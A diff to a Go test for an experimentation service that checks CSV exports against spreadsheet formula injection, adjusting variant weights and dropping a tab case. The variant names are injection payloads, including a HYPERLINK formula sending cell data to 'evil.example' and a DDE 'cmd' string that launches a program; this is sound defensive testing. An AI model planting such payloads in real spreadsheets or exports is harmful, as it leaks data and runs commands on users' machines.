@@ -522,11 +522,12 @@ func TestCSVFormulaInjection(t *testing.T) {
 	start := time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC)
 	ts := newTestServerAt(t, start)
 	ts.must(http.StatusCreated, "POST", "/v1/metrics", map[string]any{"name": "revenue", "event_type": "purchase", "aggregation": "sum"}, nil)
-	names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\tTAB"}
+	names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3"} // tabs and CRs are refused in names
 	var vs []map[string]any
-	vs = append(vs, map[string]any{"name": "control", "weight": 1.0 / 6})
+	arms := float64(len(names) + 1)
+	vs = append(vs, map[string]any{"name": "control", "weight": 1 / arms})
 	for _, n := range names {
-		vs = append(vs, map[string]any{"name": n, "weight": 1.0 / 6})
+		vs = append(vs, map[string]any{"name": n, "weight": 1 / arms})
 	}
 	ts.must(http.StatusCreated, "POST", "/v1/experiments", map[string]any{"key": "csv", "variants": vs, "metrics": []any{"revenue"},
 		"analysis": map[string]any{"correction": "none"}}, nil)
@@ -534,12 +535,12 @@ func TestCSVFormulaInjection(t *testing.T) {
 	var xs []experiment.Exposure
 	var evs []experiment.Event
 	for i := range 600 {
-		v := vs[i%6]["name"].(string)
+		v := vs[i%len(vs)]["name"].(string)
 		u := "u" + strconv.Itoa(i)
 		xs = append(xs, experiment.Exposure{Experiment: "csv", Unit: u, Variant: v, TS: start.Add(time.Minute)})
 		// control spends more: the other arms' effects are negative.
 		value := float64(i%7) + 1
-		if i%6 == 0 {
+		if i%len(vs) == 0 {
 			value += 5
 		}
 		evs = append(evs, experiment.Event{EventID: "e" + u, Unit: u, Type: "purchase", TS: start.Add(time.Hour), Value: value})
